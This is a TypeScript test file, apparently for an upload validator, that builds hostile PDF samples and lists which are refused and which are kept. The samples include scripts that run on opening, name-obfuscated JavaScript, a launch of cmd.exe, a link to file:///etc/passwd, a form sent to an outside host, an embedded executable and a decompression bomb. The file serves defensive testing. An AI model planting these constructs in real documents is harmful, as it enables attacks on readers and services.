import { PDFDocument } from '@cantoo/pdf-lib';
import { zipOf } from './archives.ts';
import { type HostileFile, SCRIPT, keptAs, latin1, page, refusedAs } from './hostile-file.ts';
import { RUNS, pdf, pdfBomb, streamOf, updated } from './pdfs.ts';

const no = refusedAs('fileNotAccepted');
const kept = keptAs('application/pdf');

const runs = (what: string, make: HostileFile['make']) => no(`a PDF ${what}`, 'card.pdf', make);
const annotation = (rest: string) => ({
  page: '/Annots [4 0 R]',
  more: [`<< /Type /Annot /Subtype /Link /Rect [0 0 600 700] ${rest} >>`],
});
const embedded = {
  catalog: '/Names << /EmbeddedFiles << /Names [(a.exe) 4 0 R] >> >>',
  more: [
    '<< /Type /Filespec /F (a.exe) /EF << /F 5 0 R >> >>',
    streamOf('/Type /EmbeddedFile', 'MZ'),
  ],
};

async function encrypted(userPassword: string): Promise<Uint8Array> {
  const document = await PDFDocument.create();
  document.addPage().drawText(SCRIPT);
  document.encrypt({ userPassword, ownerPassword: 'owner' });
  return document.save();
}

async function attached(): Promise<Uint8Array> {
  const document = await PDFDocument.create();
  document.addPage();
  await document.attach(latin1(page), 'page.html', { mimeType: 'text/html' });
  document.addJavaScript('run', SCRIPT);
  return document.save();
}

/** PDF that does something, hides something, or is none. */
export const hostilePdfs: readonly HostileFile[] = [
  runs('that runs a script when it opens', () => pdf({ catalog: `/OpenAction ${RUNS}` })),
  runs('whose opening script is another object', () =>
    pdf({ catalog: '/OpenAction 4 0 R', more: [RUNS] }),
  ),
  runs('with scripts in its tree of names', () =>
    pdf({ catalog: '/Names << /JavaScript << /Names [(a) 4 0 R] >> >>', more: [RUNS] }),
  ),
  runs('with its script in a packed stream of objects', () =>
    pdf({ catalog: '/OpenAction 4 0 R', more: [RUNS], packed: true }),
  ),
  runs('with its script in a stream', () =>
    pdf({
      catalog: '/OpenAction << /S /JavaScript /JS 4 0 R >>',
      more: [streamOf('', SCRIPT)],
    }),
  ),
  runs('with its script spelt in numbers', () =>
    pdf({ catalog: `/OpenAction << /S /Java#53cript /J#53 (${SCRIPT}) >>` }),
  ),
  runs('whose page runs a script', () => pdf({ page: `/AA << /O ${RUNS} >>` })),
  runs('whose link runs a script', () => pdf(annotation(`/A ${RUNS}`))),
  runs('whose second action is a script', () =>
    pdf(annotation(`/A << /S /GoTo /D [3 0 R /Fit] /Next [ ${RUNS} ] >>`)),
  ),
  runs('whose link is a script', () =>
    pdf(annotation(`/A << /S /URI /URI (javascript:${SCRIPT}) >>`)),
  ),
  runs('whose link opens a file', () =>
    pdf(annotation('/A << /S /URI /URI (file:///etc/passwd) >>')),
  ),
  runs('with a script in its form', () =>
    pdf({
      catalog: '/AcroForm << /Fields [4 0 R] >>',
      more: [`<< /FT /Tx /T (a) /AA << /K ${RUNS} >> >>`],
    }),
  ),
  runs('with a script that nothing refers to', () => pdf({ more: [RUNS] })),
  runs('that a later version gives a script', () => updated(pdf(), `/OpenAction ${RUNS}`)),
  runs('whose script a later version hides', () =>
    updated(pdf({ catalog: '/Extra 4 0 R', more: [RUNS] }), ''),
  ),
  runs('that starts a program', () =>
    pdf({ catalog: '/OpenAction << /S /Launch /F (cmd.exe) >>' }),
  ),
  runs('that sends its form away', () =>
    pdf(annotation('/A << /S /SubmitForm /F (https://elsewhere.example) >>')),
  ),
  runs('that fills its form from a file', () =>
    pdf(annotation('/A << /S /ImportData /F (a.fdf) >>')),
  ),
  runs('that opens another file', () =>
    pdf({ catalog: '/OpenAction << /S /GoToR /F (//elsewhere/share/a.pdf) /D [0 /Fit] >>' }),
  ),
  runs('that opens a file within it', () =>
    pdf(annotation('/A << /S /GoToE /T << /R /C /N (a) >> >>')),
  ),
  runs('that plays with a script', () => pdf(annotation(`/A << /S /Rendition /JS (${SCRIPT}) >>`))),
  runs('with a file in it', () => pdf(embedded)),
  runs('with a file in a packed stream', () => pdf({ ...embedded, packed: false })),
  runs('with a page of HTML and a script, as a library writes them', attached),
  runs('with a file pinned to its page', () =>
    pdf({
      page: '/Annots [4 0 R]',
      more: ['<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 9 9] /FS << /F (a) >> >>'],
    }),
  ),
  runs('that is a portfolio', () => pdf({ catalog: '/Collection << /View /T >>' })),
  runs('with rich media', () =>
    pdf({
      page: '/Annots [4 0 R]',
      more: ['<< /Type /Annot /Subtype /RichMedia /Rect [0 0 9 9] /RichMediaContent << >> >>'],
    }),
  ),
  runs('with a film', () =>
    pdf({
      page: '/Annots [4 0 R]',
      more: ['<< /Type /Annot /Subtype /Movie /Rect [0 0 9 9] /Movie << /F (a.avi) >> >>'],
    }),
  ),
  runs('with a form of XML', () =>
    pdf({
      catalog: '/AcroForm << /Fields [] /XFA 4 0 R >>',
      more: [streamOf('', `<xdp:xdp><script>${SCRIPT}</script></xdp:xdp>`)],
    }),
  ),
  runs('whose content is another file', () => pdf({ more: [streamOf('/F (//elsewhere/a)', '')] })),
  runs('with a program in PostScript', () =>
    pdf({ more: [streamOf('/Type /XObject /Subtype /PS', 'quit')] }),
  ),
  runs('with a password', () => encrypted('secret')),
  runs('locked with an empty password', () => encrypted('')),
  runs('that says it is encrypted', () =>
    pdf({ trailer: '/Encrypt 4 0 R', more: ['<< /Filter /Standard /V 1 /R 2 >>'] }),
  ),
  runs('cut in the middle', () => pdf().subarray(0, 300)),
  runs('of a header alone', () => latin1('%PDF-1.7\n')),
  runs('without pages', () => latin1('%PDF-1.7\n1 0 obj\n<< /Type /Catalog >>\nendobj\n%%EOF')),
  runs('whose pages are their own parents', () =>
    latin1(
      '%PDF-1.7\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n2 0 obj\n<< /Type /Pages /Kids [2 0 R] /Count 1 >>\nendobj\ntrailer\n<< /Root 1 0 R >>\n%%EOF',
    ),
  ),
  runs('of lists within lists', () => pdf({ more: ['['.repeat(200_000)] })),
  runs('that unpacks to a gigabyte', pdfBomb),
  no('a page with a PDF behind it', 'a.pdf', () => Buffer.concat([latin1(page), pdf()])),
  kept('a PDF with a page behind it', 'a.html', () => Buffer.concat([pdf(), latin1(page)])),
  kept('a PDF with an archive behind it', 'a.jar', () =>
    Buffer.concat([pdf(), zipOf('Run.class', latin1(SCRIPT))]),
  ),
  kept('a PDF with a page between its objects', 'a.pdf', () =>
    latin1(pdf().toString('latin1').replace('1 0 obj', `% ${page}\n1 0 obj`)),
  ),
  kept('a PDF and nothing wrong with it', 'a.exe', () => pdf()),
  kept('a PDF with a link to a page of the web', 'a.pdf', () =>
    pdf(annotation('/A << /S /URI /URI (https://clinic.example) >>')),
  ),
];
